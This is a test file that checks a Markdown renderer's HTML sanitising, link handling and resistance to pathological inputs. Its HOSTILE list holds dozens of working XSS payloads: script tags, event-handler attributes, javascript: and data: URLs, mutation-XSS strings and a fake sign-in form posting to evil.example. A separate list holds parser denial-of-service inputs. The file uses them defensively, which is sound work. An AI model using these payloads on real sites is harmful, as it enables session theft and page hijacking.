// @vitest-environment jsdom
import { expect, test } from "vitest";
import { inOneLine, rendered } from "../src/markdown";
import { language } from "../src/preferences";

language.value = "en";

/** As a browser would have it. */
function shown(content: string): HTMLElement {
  const place = document.createElement("div");
  place.innerHTML = rendered(content);
  return place;
}

const ALLOWED = new Set(
  "p br hr strong em del code pre blockquote ul ol li h3 h4 h5 h6 a table thead tbody tr th td div span button".split(
    " ",
  ),
);
const ATTRIBUTES = new Set("href title class tabindex target rel type align start".split(" "));

/** That nothing in it runs, is fetched, or leads to what is not a page or mail. */
function expectHarmless(place: HTMLElement): void {
  for (const element of place.querySelectorAll("*")) {
    expect(ALLOWED).toContain(element.localName);
    for (const { name } of element.attributes) expect(ATTRIBUTES).toContain(name);
    const href = element.getAttribute("href");
    if (href !== null) expect(new URL(href, "base:/").protocol).toMatch(/^(https?|mailto):$/);
  }
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)" /',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object>",
  "<embed src=//evil.example/x.swf>",
  "<style>body { display: none }</style>",
  '<p style="position: fixed; inset: 0">over everything</p>',
  "<link rel=stylesheet href=//evil.example/x.css>",
  '<meta http-equiv="refresh" content="0; url=//evil.example">',
  "<base href=//evil.example/>",
  "<form action=//evil.example><input name=password><button>Sign in</button></form>",
  "<details open ontoggle=alert(1)>",
  "<a href=javascript:alert(1)>click</a>",
  '<a href="https://good.example" onclick="alert(1)">click</a>',
  "<dialog open>Your sign-in is over</dialog>",
  '<div class="toast" id="room">as if the page said it</div>',
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?php echo '<img src=x onerror=alert(1)>' ?>",
  "<x onclick=alert(1)>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](javascript&colon;alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](<java\nscript:alert(1)>)",
  "[click](\u0001javascript:alert(1))",
  "[click](<  javascript:alert(1)>)",
  "[click](javascript://good.example/%0aalert(1))",
  "[click](vbscript:msgbox)",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](DATA:text/html,<script>alert(1)</script>)",
  "[click](blob:https://good.example/1)",
  "[click](file:///etc/passwd)",
  "[click](//evil.example)",
  "[click](/api/logout)",
  "[click](?invite=m3i_x)",
  '[click](https://good.example/"onmouseover="alert(1))',
  "[click](https://good.example '\"><img src=x onerror=alert(1)>')",
  "[click](https://good.example \"' onmouseover=alert(1) x='\")",
  "[click][link]\n\n[link]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '![x" onerror="alert(1)](https://good.example/x.png)',
  "![<img src=x onerror=alert(1)>](https://good.example/x.png)",
  "[![x](https://good.example/x.png)](javascript:alert(1))",
  "[<img src=x onerror=alert(1)>](https://good.example)",
  "`<img src=x onerror=alert(1)>`",
  "```<img src=x onerror=alert(1)>\ncode\n```",
  '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  "    <script>alert(1)</script>",
  "| <img src=x onerror=alert(1)> | b |\n|-|-|\n| <script>alert(1)</script> | [c](javascript:alert(1)) |",
  "# <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "- <script>alert(1)</script>\n  - [x](javascript:alert(1))",
  "**<img src=x onerror=alert(1)>**",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
  "\\<script>alert(1)\\</script>",
  `${"<div>".repeat(600)}<img src=x onerror=alert(1)>`,
  `${"> ".repeat(300)}<img src=x onerror=alert(1)>`,
];

test.each(HOSTILE)("nothing comes of %j", (content) => {
  expectHarmless(shown(content));
});

test.each(HOSTILE)("nothing comes of %j in what is emphasised, linked and listed", (content) => {
  expectHarmless(shown(`- **${content}** [${content}](https://good.example)\n> ${content}`));
});

test("HTML is shown as it was written", () => {
  expect(shown('before <b onclick="x()">bold</b> after').textContent).toBe('before <b onclick="x()">bold</b> after\n');
  expect(shown("<div>\n<p>block</p>\n</div>").textContent).toBe("<div>\n<p>block</p>\n</div>");
  expect(shown("&lt;b&gt; & &amp; <").textContent).toBe("<b> & & <\n");
});

test("a link to a page leads there in a window of its own, and tells it nothing", () => {
  const link = shown("[the **page**](https://good.example/?a=1&b=2)").querySelector("a");
  expect(link?.getAttribute("href")).toBe("https://good.example/?a=1&b=2");
  expect(link?.innerHTML).toBe("the <strong>page</strong>");
  expect(link?.target).toBe("_blank");
  expect(link?.rel.split(" ")).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
});

test("addresses of pages and of mail are links by themselves", () => {
  const links = [...shown("https://good.example and ann@good.example").querySelectorAll("a")];
  expect(links.map((link) => link.getAttribute("href"))).toEqual(["https://good.example", "mailto:ann@good.example"]);
});

test("of a link that leads to neither its words are left", () => {
  const place = shown("[click **here**](javascript:alert(1))");
  expect(place.querySelector("a")).toBeNull();
  expect(place.innerHTML.trim()).toBe("<p>click <strong>here</strong></p>");
});

test("a picture is a link that says where it leads, and nothing is fetched for it", () => {
  const place = shown("![a cat](https://pictures.example/cat.png)");
  expect(place.querySelector("img")).toBeNull();
  expect(place.querySelector("a.picture")?.getAttribute("href")).toBe("https://pictures.example/cat.png");
  expect(place.textContent).toBe("Picture: a cat pictures.example\n");
});

test("code is shown as it was written, with its language and what copies it", () => {
  const place = shown("```html and more\n<b>&amp;</b>\n```");
  expect(place.querySelector("pre code")?.textContent).toBe("<b>&amp;</b>");
  expect(place.querySelector(".code span")?.textContent).toBe("html");
  const button = place.querySelector("button");
  expect(button?.type).toBe("button");
  expect(button?.textContent).toBe("Copy the code");
  expect(shown("`<b>`").querySelector("code")?.textContent).toBe("<b>");
});

test("headings are below those of the page", () => {
  expect(shown("# one\n###### six").innerHTML).toBe("<h3>one</h3><h6>six</h6>");
});

test("a line ends where its writer ended it", () => {
  expect(shown("one\ntwo").querySelectorAll("br")).toHaveLength(1);
});

test("what is emphasised is told apart where its letters cannot slant", () => {
  expect([...shown("*two* *二*").querySelectorAll("em")].map((one) => one.className)).toEqual(["", "han"]);
});

test("what is to be done has marks that nobody can press", () => {
  const place = shown("- [x] done\n- [ ] open");
  expect(place.querySelector("input")).toBeNull();
  expect([...place.querySelectorAll("li")].map((one) => one.textContent?.trim())).toEqual(["☑ done", "☐ open"]);
});

test("a list begins with its own number, and a column has its side", () => {
  expect(shown("5. five").querySelector("ol")?.getAttribute("start")).toBe("5");
  expect(shown("| a |\n|--:|\n| 1 |").querySelector("td")?.getAttribute("align")).toBe("right");
});

const filled = (unit: string, length = 16_384): string => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);

/** What marked would fail at, take seconds for, or make a thousand times as much of. */
const EXCESSIVE = {
  "quotations within each other": ">".repeat(4_000),
  "quotations apart": filled("> "),
  "lists within each other": `${filled("- ")}a`,
  "lists of all kinds": filled("* - + "),
  "a list of quotations": filled("> - "),
  "numbered lists within each other": filled("1. "),
  "lists that go in": Array.from({ length: 100 }, (_, depth) => `${"  ".repeat(depth)}- a`).join("\n"),
  "rules in a list": `a\n${filled("- ")}a`,
  "a table that is filled up": `${"|a".repeat(100)}|\n${"|-".repeat(100)}|\n${"a\n".repeat(1_000)}`,
  "a wide table": `${"|a".repeat(2_700)}|\n${"|-".repeat(2_700)}|\n${"a\n".repeat(2_700)}`,
  "a table in a quotation": `> ${"|a".repeat(100)}|\n> ${"|-".repeat(100)}|\n${"> a\n".repeat(1_000)}`,
  "words that are emphasised": filled("_a_"),
  "an address without an end": `${"a".repeat(16_381)}a@a`,
  "what may be an address": `${filled("a+.")}@`,
  "emphasis of all kinds": filled("*a**b_c__"),
  "emphasis that never ends": filled("**a* "),
  "emphasis that ends late": `${"*a ".repeat(2_500)}${"b*".repeat(2_500)}`,
  "emphasis of nothing": `${"*".repeat(8_000)}a${"*".repeat(8_000)}`,
  "lines under words": filled("_a"),
  "marks of exclamation": filled("!"),
  spaces: `a${" ".repeat(16_000)}a`,
  "a link that ends in dots": `https://a${filled(".)")}`,
  "code that never ends": filled("a`b"),
  brackets: filled("["),
  tags: filled("<a b="),
  fences: filled("```\n"),
};

test.each(Object.entries(EXCESSIVE))("something is shown, and not too much, of %s", (_, content) => {
  for (const text of [content, content.repeat(4)]) {
    const html = String(rendered(text));
    expect(html.length).toBeGreaterThan(text.length / 4);
    expect(html.length).toBeLessThan(Math.max(200_100, 6 * text.length));
  }
  expectHarmless(shown(content));
});

test("what is no Markdown is shown as it was written", () => {
  const content = `${"> ".repeat(40)}**a** <b>\n\nb\n`;
  const place = shown(content);
  expect(place.textContent).toBe(content);
  expect(place.querySelector(".plain")).not.toBeNull();
  expect(place.querySelector("strong, b, blockquote")).toBeNull();
});

test("and much of what is", () => {
  const paragraph = "A **word** of `code`, *another* and [a link](https://good.example/) in a line of some length.\n";
  const table = `| a | b | c |\n|---|---|---|\n${"| 1 | 2 | 3 |\n".repeat(200)}`;
  const nested = ["- a", "  - b", "    - c", "      > - d"].join("\n");
  const content = `${`- ${paragraph}`.repeat(200)}\n${`${paragraph.repeat(4)}\n`.repeat(40)}\n${table}\n${nested}`;
  const place = shown(content);
  expect(place.querySelectorAll("strong")).toHaveLength(360);
  expect(place.querySelectorAll("td")).toHaveLength(600);
  expect(place.querySelector("li li li blockquote li")?.textContent).toBe("d");
});

test("an address that is too long for one is text", () => {
  expect(shown(`https://good.example/${"a".repeat(3_000)}`).querySelector("a")).toBeNull();
  expect(shown(`https://good.example/${"a".repeat(1_000)}`).querySelector("a")).not.toBeNull();
});

test.each([
  ["**bold**, *slanted*, ~~gone~~ and `code`", "bold, slanted, gone and code"],
  ["# Heading\nand text", "Heading and text"],
  ["see [the docs](https://example.com/a?b=c)", "see the docs"],
  ["see [that](javascript:alert(1))", "see that"],
  ["![a cat](https://example.com/cat.png)", "Picture: a cat example.com"],
  ["look:\n```python\nprint(1)\nprint(2)\n```\nlike so", "look: print(1) print(2) like so"],
  ["```js\nan open fence", "an open fence"],
  ["- one\n- two\n  - three\n\n1. four", "one two three four"],
  ["- [x] done\n- [ ] not yet", "☑ done ☐ not yet"],
  ["> quoted\n\nand answered", "quoted and answered"],
  ["| a | b |\n|---|---|\n| 1 | 2 |", "a b 1 2"],
  ["one\ntwo  \nthree\n\nfour", "one two three four"],
  ["a &amp; b &lt;i&gt; <i>c</i>", "a & b <i> <i>c</i>"],
  ["5 * 3 * 2 and snake_case_name", "5 * 3 * 2 and snake_case_name"],
  ["麻婆豆腐**真好**", "麻婆豆腐真好"],
  ["---", "---"],
  ["", ""],
])("in one line %j reads as %j", (content, line) => {
  expect(inOneLine(content)).toBe(line);
});

test.each([
  ["**".repeat(32_768), 1_000],
  ["> ".repeat(32_768), 1_000],
  [`[${"a](b ".repeat(13_000)}`, 1_000],
  ["🦊".repeat(32_768), 1_000],
])("of a long text, as %.9s…, only the beginning is looked at", (content, most) => {
  expect(inOneLine(content).length).toBeLessThanOrEqual(most);
});
